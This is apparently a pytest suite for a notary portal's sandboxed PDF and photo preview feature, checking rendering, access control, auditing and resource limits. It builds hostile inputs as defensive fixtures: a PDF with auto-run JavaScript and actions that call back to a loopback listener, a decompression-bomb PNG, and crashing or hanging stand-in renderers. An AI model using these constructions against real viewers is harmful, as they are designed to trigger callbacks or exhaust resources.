"""In-portal preview (R-SIG-3): PDFs and photos are viewed as page images rendered on the server
in a background task, in a child process with limits; nothing of the file runs in the browser.
Access as for the download; viewing marks the document read and is audited."""

from __future__ import annotations

import io
import os
import re
import socket
import socketserver
import threading
import time
from datetime import timedelta

import pypdfium2
import pypdfium2.raw
import pypdfium2.version
import pytest
import time_machine
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client as HttpClient
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from fpdf import FPDF
from PIL import Image

from portal.audit.display import describe
from portal.audit.models import AuditEntry
from portal.core import tenancy
from portal.documents import previews, rendering, services
from portal.documents.models import Document, DocumentPreview, DocumentRead
from portal.messaging import services as message_services
from portal.messaging.models import Message
from portal.offices.middleware import SESSION_KEY
from portal.offices.models import Office, OfficeHost
from portal.settings import s3_storage

from .factories import DossierFactory, StaffFactory, UserFactory, grant
from .s3 import moto_s3
from .workspace_helpers import staff_http, verify_second_factor

pytestmark = pytest.mark.django_db

FAILED_TEXT = "Dit document kan niet worden bekeken; download het om het te openen."


def pdf_bytes(pages: int, label: str = "Pagina") -> bytes:
    """A real multi-page PDF made with fpdf2, each page saying its number."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=28)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(text=f"{label} {number}")
    return bytes(pdf.output())


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from its objects (numbered from 1; object 1 the catalogue), with a correct
    cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


# A page whose text field shows "NIET UITGEVOERD" (drawn from its appearance stream). When the
# document opens (OpenAction) and at document level (Names/JavaScript) its JavaScript would set
# the field to "UITGEVOERD" and call home three ways (launchURL, submitForm, Net.HTTP); the
# OpenAction goes on (Next) to a URI action and a SubmitForm action, which need no script. A
# viewer that ran any of it would show another page image or reach the listener.
def pdf_with_javascript(port: int, script: bool = True, value: bytes = b"NIET UITGEVOERD") -> bytes:
    home = f"http://127.0.0.1:{port}".encode()
    js = (
        b"this.getField('status').value = 'UITGEVOERD'; app.alert('script ran');"
        b" app.launchURL('" + home + b"/launch', true); this.submitForm('" + home + b"/js');"
        b" Net.HTTP.request({cVerb: 'GET', cURL: '" + home + b"/net'});"
    )
    appearance = b"/Tx BMC BT /F1 14 Tf 4 12 Td (" + value + b") Tj ET EMC"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AcroForm << /Fields [6 0 R]"
            b" /NeedAppearances true >> /Names << /JavaScript << /Names [(init) 5 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
            b" /Resources << /Font << /F1 7 0 R >> >> /Annots [6 0 R] /AA << /O 9 0 R >> >>",
            b"<< /Length 44 >>\nstream\nBT /F1 18 Tf 20 150 Td (Volmacht) Tj ET\nendstream",
            b"<< /S /JavaScript /JS (" + (js if script else b"") + b") /Next [9 0 R 10 0 R] >>",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (status) /V (" + value + b")"
            b" /Rect [20 40 280 80] /P 3 0 R /F 4 /DA (/F1 14 Tf 0 g) /AP << /N 8 0 R >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 260 40] /Resources << /Font"
            b" << /F1 7 0 R >> >> /Length %d >>\nstream\n"
            % len(appearance)
            + appearance
            + b"\nendstream",
            b"<< /S /URI /URI (" + home + b"/uri) >>",
            b"<< /S /SubmitForm /F << /FS /URL /F (" + home + b"/submit) >> >>",
        ]
    )


class Listener(socketserver.ThreadingTCPServer):
    """A TCP listener on loopback that counts who connects."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self) -> None:
        self.connections = 0

        listener = self

        class Count(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                listener.connections += 1

        super().__init__(("127.0.0.1", 0), Count)


@pytest.fixture
def listener():
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def png_bytes(width: int = 800, height: int = 600, *, exif: bool = False) -> bytes:
    image = Image.new("RGB", (width, height), (200, 30, 30))
    out = io.BytesIO()
    if exif:
        data = Image.Exif()
        data[0x010F] = "Camera van de klant"  # Make
        data[0x8825] = {2: (52.0, 22.0, 0.0)}  # GPS latitude
        image.save(out, "JPEG", exif=data.tobytes())
    else:
        image.save(out, "PNG")
    return out.getvalue()


@pytest.fixture
def setting(db):
    Office.current()
    staff = StaffFactory(email="notaris@office.test", staff_role="administrator")
    owner = UserFactory(email="koper@example.test")
    dossier = DossierFactory(description="Levering woning Dorpsstraat 5")
    grant(dossier, owner.client)
    return staff, owner, dossier


def publish(dossier, staff, content: bytes, name: str, kind: str = "document") -> Document:
    return services.publish_document(
        dossier=dossier,
        kind=kind,
        title=name,
        file=SimpleUploadedFile(name, content),
        by=staff,
    )


def rendered(document: Document) -> DocumentPreview:
    """Queue the preview as the first view does, and run its task (as the worker would)."""
    preview = previews.preview_for(document)
    assert preview is not None
    rendering.render(preview.pk)
    preview.refresh_from_db()
    return preview


def body(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode(errors="replace")


def webp(response) -> Image.Image:
    assert response.status_code == 200
    assert response["Content-Type"] == "image/webp"
    image = Image.open(io.BytesIO(b"".join(response.streaming_content)))
    assert image.format == "WEBP"
    return image


def test_a_multi_page_pdf_is_viewed_page_by_page_R_SIG_3(
    setting, client, django_capture_on_commit_callbacks
):
    """R-SIG-3: "Bekijken" beside "Download"; the first view queues the rendering (a task after
    commit) and says the document is being prepared; then each of the 5 pages is an image with
    "Pagina N van 5", with previous/next links, and the document is read and the view audited."""
    staff, owner, dossier = setting
    deed = publish(dossier, staff, pdf_bytes(5), "concept-akte.pdf")
    client.force_login(owner)

    tab = body(client.get(f"/dossiers/{dossier.pk}/documenten/"))
    viewer_url = f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/"
    assert f'href="{viewer_url}"' in tab and ">Bekijken<" in tab and ">Download<" in tab

    with django_capture_on_commit_callbacks(execute=True) as queued:
        first = client.get(viewer_url)
    assert len(queued) == 1  # the render task, queued after commit
    assert "wordt voorbereid" in body(first)
    assert not DocumentRead.objects.filter(document=deed, user=owner).exists()
    preview = DocumentPreview.objects.get(document=deed)
    assert preview.status == "ready" and preview.page_count == 5 and preview.source_pages == 5
    assert preview.page_name(1).startswith(f"office-{deed.office_id}/previews/")

    page = client.get(viewer_url)
    html = body(page)
    assert page.status_code == 200
    assert 'alt="Pagina 1 van 5"' in html and "Pagina 1 van 5" in html
    assert 'rel="next"' in html and 'rel="prev"' not in html
    image_url = f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/1/"
    assert f'src="{image_url}"' in html
    # Nothing of the PDF reaches the browser: no embed, object or frame, and no link to the file
    # other than the download.
    assert not re.search(r"<(embed|object|iframe)\b", html)
    image = webp(client.get(image_url))
    assert image.width > image.height * 0.6  # an A4 page, portrait

    third = body(client.get(viewer_url + "?pagina=3&zoom=150"))
    assert 'alt="Pagina 3 van 5"' in third and 'rel="prev"' in third
    assert 'aria-current="true">150%' in third
    assert "Pagina 5 van 5" in body(client.get(viewer_url + "?pagina=99"))  # clamped
    for number in range(1, 6):
        webp(client.get(f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/{number}/"))
    assert client.get(f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/6/").status_code == 404

    assert DocumentRead.objects.filter(document=deed, user=owner).exists()
    views = AuditEntry.objects.filter(action="document.viewed", actor=owner)
    assert views.count() == 3
    assert describe(views.first()).startswith("Document “concept-akte.pdf” bekeken")


def test_staff_view_in_the_workspace_R_SIG_3(setting, django_capture_on_commit_callbacks):
    """R-SIG-3: staff view any document of the office from the workspace's dossier page; a
    client's file viewed by staff leaves the inbox (as when downloaded)."""
    staff, owner, dossier = setting
    supplied = services.supply_document(
        dossier=dossier, file=SimpleUploadedFile("paspoort.png", png_bytes()), by=owner
    )
    http = staff_http(staff)
    page = body(http.get(f"/kantoor/dossiers/{dossier.pk}/"))
    assert f'href="/kantoor/documenten/{supplied.pk}/bekijken/"' in page
    with django_capture_on_commit_callbacks(execute=True):
        http.get(f"/kantoor/documenten/{supplied.pk}/bekijken/")
    html = body(http.get(f"/kantoor/documenten/{supplied.pk}/bekijken/"))
    assert 'alt="Pagina 1 van 1"' in html
    webp(http.get(f"/kantoor/documenten/{supplied.pk}/bekijken/1/"))
    supplied.refresh_from_db()
    assert supplied.office_seen_at is not None
    assert AuditEntry.objects.filter(action="document.viewed", actor=staff).count() == 1


def test_a_photo_is_re_encoded_smaller_and_without_its_metadata_R_SIG_3(setting):
    """R-SIG-3: a JPEG is shown as a re-encoded WebP, at most 2400 px on its longest side, with
    none of its EXIF (camera, location)."""
    staff, _owner, dossier = setting
    photo = publish(dossier, staff, png_bytes(3000, 1500, exif=True), "foto.jpg")
    assert photo.content_type == "image/jpeg"
    preview = rendered(photo)
    assert preview.status == "ready" and preview.page_count == 1
    assert preview.page_sizes == [[2400, 1200]]
    with default_storage.open(preview.page_name(1)) as stored:
        data = stored.read()
    image = Image.open(io.BytesIO(data))
    assert image.format == "WEBP" and image.size == (2400, 1200)
    assert not image.getexif() and b"Camera van de klant" not in data and b"Exif" not in data


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + os.urandom(4000),  # a PDF header and then garbage
        pdf_bytes(3)[:700],  # a real PDF cut short
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",  # no pages at all
    ],
    ids=["garbage", "truncated", "no pages"],
)
def test_a_malformed_pdf_gives_a_clear_message_and_the_worker_lives_on_R_SIG_3(
    setting, client, content
):
    """R-SIG-3: a malformed PDF cannot be viewed: the preview fails with a code, the client
    reads a clear Dutch message with the download beside it, and the process that ran the task
    goes on: the next document renders."""
    staff, owner, dossier = setting
    broken = publish(dossier, staff, content, "kapot.pdf")
    preview = rendered(broken)
    assert preview.status == "failed" and preview.error in {"malformed", "crashed"}
    client.force_login(owner)
    html = body(client.get(f"/dossiers/{dossier.pk}/documenten/{broken.pk}/bekijken/"))
    assert FAILED_TEXT in html
    assert f"/dossiers/{dossier.pk}/documenten/{broken.pk}/download/" in html
    assert (
        client.get(f"/dossiers/{dossier.pk}/documenten/{broken.pk}/bekijken/1/").status_code == 404
    )

    good = publish(dossier, staff, pdf_bytes(2), "goed.pdf")
    assert rendered(good).status == "ready"  # this process (the "worker") is still working


def test_a_renderer_over_its_limits_is_stopped_not_the_worker_R_SIG_3(setting, settings):
    """R-SIG-3: the renderer runs in a child process with a memory limit and a timeout; a file
    that needs more fails its preview and leaves the worker running."""
    staff, _owner, dossier = setting
    big = publish(dossier, staff, pdf_bytes(3), "groot.pdf")
    settings.PREVIEW_MEMORY_MB = 40  # too little to even load pdfium
    preview = rendered(big)
    assert preview.status == "failed" and preview.error in {"memory", "crashed"}

    settings.PREVIEW_MEMORY_MB = 1024
    settings.PREVIEW_TIMEOUT = 0  # no time at all: killed at once
    other = publish(dossier, staff, pdf_bytes(3), "traag.pdf")
    assert rendered(other).error in {"timeout", "crashed"}

    settings.PREVIEW_TIMEOUT = 60
    assert rendered(publish(dossier, staff, pdf_bytes(1), "klein.pdf")).status == "ready"


def test_page_and_pixel_caps_are_kept_and_said_R_SIG_3(setting, client, settings):
    """R-SIG-3: at most PREVIEW_MAX_PAGES pages are rendered, and the viewer says that the file
    has more (nothing cut silently); a page never exceeds PREVIEW_MAX_PIXELS."""
    staff, owner, dossier = setting
    settings.PREVIEW_MAX_PAGES = 2
    settings.PREVIEW_MAX_PIXELS = 200_000
    long = publish(dossier, staff, pdf_bytes(4), "lang.pdf")
    preview = rendered(long)
    assert preview.page_count == 2 and preview.source_pages == 4
    assert all(w * h <= 200_000 for w, h in preview.page_sizes)
    client.force_login(owner)
    html = body(client.get(f"/dossiers/{dossier.pk}/documenten/{long.pk}/bekijken/"))
    assert "Pagina 1 van 2" in html
    assert "heeft 4 pagina" in html and "eerste 2" in html


def test_a_pdf_with_javascript_is_rendered_and_its_script_never_runs_R_SIG_3(setting, listener):
    """R-SIG-3: a PDF whose JavaScript runs on opening (OpenAction and document-level) and
    whose opening actions go on to a URI and a form submission (also as the page's open action)
    renders like any PDF, and none of it runs. Why: pypdfium2's pdfium is built without a
    JavaScript engine (no V8 among its build flags); its form environment, opened to draw
    filled-in fields, has no callbacks to open URLs or submit forms, and the renderer never
    triggers the document's open actions; the browser only ever gets WebP images we encoded.
    Shown: pdfium does see the script (one document-level JavaScript action); nothing reaches
    the loopback listener the script and the actions would call; the page image (with the field
    drawn: "NIET UITGEVOERD") is the same, pixel for pixel, as that of the same PDF without the
    script, and differs from one whose field reads "UITGEVOERD", as it would had the script
    run."""
    assert "V8" not in pypdfium2.version.PDFIUM_INFO.flags
    assert "XFA" not in pypdfium2.version.PDFIUM_INFO.flags
    port = listener.server_address[1]
    content = pdf_with_javascript(port)
    parsed = pypdfium2.PdfDocument(content)
    assert pypdfium2.raw.FPDFDoc_GetJavaScriptActionCount(parsed.raw) == 1
    parsed.close()

    staff, _owner, dossier = setting
    hostile = rendered(publish(dossier, staff, content, "volmacht.pdf"))
    assert hostile.status == "ready" and hostile.page_count == 1
    plain = rendered(
        publish(dossier, staff, pdf_with_javascript(port, script=False), "volmacht-leeg.pdf")
    )
    time.sleep(0.5)  # anything on its way would have arrived
    assert listener.connections == 0
    socket.create_connection(listener.server_address, timeout=2).close()
    time.sleep(0.2)
    assert listener.connections == 1  # the listener does count a caller
    with (
        default_storage.open(hostile.page_name(1)) as a,
        default_storage.open(plain.page_name(1)) as b,
    ):
        hostile_image, plain_image = Image.open(a), Image.open(b)
        assert hostile_image.size == plain_image.size
        assert hostile_image.tobytes() == plain_image.tobytes()
        plain_image.load()
    changed = rendered(
        publish(
            dossier,
            staff,
            pdf_with_javascript(port, script=False, value=b"UITGEVOERD"),
            "volmacht-uitgevoerd.pdf",
        )
    )
    with default_storage.open(changed.page_name(1)) as c:
        assert Image.open(c).tobytes() != plain_image.tobytes()  # a changed field would show


def test_another_clients_preview_and_page_images_are_404_R_SIG_3(
    setting, client, django_capture_on_commit_callbacks
):
    """R-SIG-3, R-DOS-6: the viewer and its page images are found like the download: another
    client, and a document of another dossier under this dossier's number, get 404."""
    staff, owner, dossier = setting
    deed = rendered(publish(dossier, staff, pdf_bytes(1), "akte.pdf")).document
    stranger = UserFactory(email="vreemde@example.test")
    own = DossierFactory(description="Eigen dossier")
    grant(own, stranger.client)
    client.force_login(stranger)
    for url in (
        f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/",
        f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/1/",
        f"/dossiers/{own.pk}/documenten/{deed.pk}/bekijken/",
        f"/dossiers/{own.pk}/documenten/{deed.pk}/bekijken/1/",
    ):
        assert client.get(url).status_code == 404, url
    assert not AuditEntry.objects.filter(action="document.viewed").exists()


def test_staff_of_another_office_get_404_R_SIG_3(setting):
    """R-SIG-3, R-TEN-2: a staff member of another office, signed in at that office, finds
    neither the viewer nor the page images of this office's documents."""
    staff, _owner, dossier = setting
    deed = rendered(publish(dossier, staff, pdf_bytes(1), "akte.pdf")).document
    with tenancy.cross_office():
        other_office = Office.objects.create(name="Ander kantoor")
        OfficeHost.objects.create(office=other_office, name="ander.example", primary=True)
    with tenancy.office_scope(other_office):
        outsider = StaffFactory(email="notaris@ander.test", staff_role="administrator")
        http = HttpClient(HTTP_HOST="ander.example")
        http.force_login(outsider)
    session = http.session
    session[SESSION_KEY] = other_office.pk
    session.save()
    verify_second_factor(http)
    assert http.get("/kantoor/").status_code == 200  # signed in there, in the workspace
    for url in (
        f"/kantoor/documenten/{deed.pk}/bekijken/",
        f"/kantoor/documenten/{deed.pk}/bekijken/1/",
    ):
        assert http.get(url).status_code == 404, url


def test_the_viewer_runs_a_fixed_number_of_queries_R_SIG_3(setting, client):
    """R-SIG-3: the viewer's queries do not grow with the number of pages."""
    staff, owner, dossier = setting
    small = rendered(publish(dossier, staff, pdf_bytes(1), "een.pdf")).document
    large = rendered(publish(dossier, staff, pdf_bytes(12), "twaalf.pdf")).document
    client.force_login(owner)
    counts = []
    for document, page in ((small, 1), (large, 7)):
        url = f"/dossiers/{dossier.pk}/documenten/{document.pk}/bekijken/?pagina={page}"
        client.get(url)  # the first view marks it read
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1], counts


def test_removing_the_document_removes_its_page_images_R_SIG_3(
    setting, django_capture_on_commit_callbacks
):
    """R-SIG-3: page images do not outlive their document (withdrawn by the office)."""
    staff, _owner, dossier = setting
    preview = rendered(publish(dossier, staff, pdf_bytes(2), "weg.pdf"))
    names = [preview.page_name(n) for n in (1, 2)]
    assert all(default_storage.exists(name) for name in names)
    with django_capture_on_commit_callbacks(execute=True):
        services.withdraw_document(document=preview.document, by=staff)
    assert not any(default_storage.exists(name) for name in names)


def test_the_renderer_gets_none_of_the_workers_secrets_R_SIG_3(setting, monkeypatch, tmp_path):
    """R-SIG-3: the child that reads a hostile file starts with a bare environment: no database
    URL, no secret key, whatever the worker has."""
    monkeypatch.setenv("DATABASE_URL", "postgres://geheim@db/portal")
    monkeypatch.setenv("SECRET_KEY", "geheim")
    seen = {}
    real_run = rendering.subprocess.run

    def spy(command, **kwargs):
        seen.update(kwargs.get("env") or {"inherited": "everything"})
        return real_run(command, **kwargs)

    monkeypatch.setattr(rendering.subprocess, "run", spy)
    staff, _owner, dossier = setting
    assert rendered(publish(dossier, staff, pdf_bytes(1), "akte.pdf")).status == "ready"
    assert seen and "inherited" not in seen
    assert not {"DATABASE_URL", "SECRET_KEY"} & set(seen)


def test_a_preview_whose_task_was_lost_is_queued_again_R_SIG_3(
    setting, client, django_capture_on_commit_callbacks
):
    """R-SIG-3: with the broker down the first view's task is lost; a view long after queues it
    again (and the preview is made), a view soon after does not."""
    staff, owner, dossier = setting
    deed = publish(dossier, staff, pdf_bytes(2), "akte.pdf")
    client.force_login(owner)
    url = f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/"
    with django_capture_on_commit_callbacks(execute=False) as lost:
        client.get(url)
    assert len(lost) == 1  # queued, never run
    with django_capture_on_commit_callbacks(execute=True) as queued:
        assert "wordt voorbereid" in body(client.get(url))
    assert queued == []
    with time_machine.travel(timezone.now() + timedelta(minutes=10)):
        with django_capture_on_commit_callbacks(execute=True) as queued:
            client.get(url)
        assert len(queued) == 1
        assert "Pagina 1 van 2" in body(client.get(url))


@pytest.fixture(scope="module")
def s3():
    with moto_s3() as server:
        yield server


def test_page_images_live_in_the_private_s3_bucket_R_SIG_3(
    setting, s3, settings, monkeypatch, client
):
    """R-SIG-3: with S3 storage the page images are objects in the same private bucket, under
    the office's prefix, not public, and served through the viewer's view only."""
    bucket = s3.create_bucket()
    for name, value in s3.env(bucket, S3_SSE="1").items():
        monkeypatch.setenv(name, value)
    settings.STORAGES = {**settings.STORAGES, "default": s3_storage()}
    staff, owner, dossier = setting
    deed = publish(dossier, staff, pdf_bytes(2), "akte.pdf")
    preview = rendered(deed)
    assert preview.status == "ready"
    keys = {o["Key"] for o in s3.client().list_objects_v2(Bucket=bucket)["Contents"]}
    assert keys == {deed.file.name, preview.page_name(1), preview.page_name(2)}
    head = s3.client().head_object(Bucket=bucket, Key=preview.page_name(1))
    assert head["ServerSideEncryption"] == "AES256"
    grants = s3.client().get_object_acl(Bucket=bucket, Key=preview.page_name(1))["Grants"]
    assert not [g for g in grants if "AllUsers" in g["Grantee"].get("URI", "")]
    client.force_login(owner)
    webp(client.get(f"/dossiers/{dossier.pk}/documenten/{deed.pk}/bekijken/2/"))


def test_a_decompression_bomb_photo_is_refused_not_decoded_R_SIG_3(setting, client):
    """R-SIG-3: a small PNG that would decode to 70 million pixels is refused before it is
    decoded: the preview fails with the clear message; the worker goes on."""
    staff, owner, dossier = setting
    out = io.BytesIO()
    Image.new("1", (10_000, 7_000)).save(out, "PNG")
    assert len(out.getvalue()) < 1_000_000
    bomb = publish(dossier, staff, out.getvalue(), "bom.png")
    preview = rendered(bomb)
    assert preview.status == "failed" and preview.error == "malformed"
    client.force_login(owner)
    assert FAILED_TEXT in body(client.get(f"/dossiers/{dossier.pk}/documenten/{bomb.pk}/bekijken/"))


@pytest.mark.parametrize(
    ("behaviour", "code"),
    [
        ("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)", "crashed"),
        ("import time; time.sleep(30)", "timeout"),
        ("print('not json')", "crashed"),
    ],
    ids=["segfault", "hang", "nonsense"],
)
def test_a_renderer_that_crashes_or_hangs_fails_the_preview_only_R_SIG_3(
    setting, settings, monkeypatch, tmp_path, behaviour, code
):
    """R-SIG-3: what a hostile file could do to pdfium (a segmentation fault, an endless loop,
    garbage on its output) ends the child only: the hang is killed after PREVIEW_TIMEOUT, the
    preview fails with a code, and this process renders the next document."""
    staff, _owner, dossier = setting
    script = tmp_path / "render.py"
    script.write_text(behaviour + "\n")
    real = rendering.RENDERER
    monkeypatch.setattr(rendering, "RENDERER", script)
    settings.PREVIEW_TIMEOUT = 2
    started = time.monotonic()
    preview = rendered(publish(dossier, staff, pdf_bytes(1), "akte.pdf"))
    assert preview.status == "failed" and preview.error == code
    assert time.monotonic() - started < 15
    monkeypatch.setattr(rendering, "RENDERER", real)
    assert rendered(publish(dossier, staff, pdf_bytes(1), "volgende.pdf")).status == "ready"


def test_a_messages_attachment_can_be_viewed_R_SIG_3(setting, client):
    """R-SIG-3: "Bekijken" beside an attachment of a message, for the client and for staff."""
    staff, owner, dossier = setting
    message = message_services.send_message(
        dossier=dossier, sender=staff, subject="Nota van afrekening", body="Zie bijlage."
    )
    nota = publish(dossier, staff, pdf_bytes(1), "nota.pdf", kind="correspondence")
    Document.objects.filter(pk=nota.pk).update(message=message)
    assert Message.objects.get(pk=message.pk).attachments.get() == nota
    client.force_login(owner)
    page = body(client.get(f"/dossiers/{dossier.pk}/berichten/{message.pk}/"))
    assert f'href="/dossiers/{dossier.pk}/documenten/{nota.pk}/bekijken/"' in page
    staff_page = f"/kantoor/dossiers/{dossier.pk}/berichten/{message.pk}/"
    workspace = body(staff_http(staff).get(staff_page))
    assert f'href="/kantoor/documenten/{nota.pk}/bekijken/"' in workspace
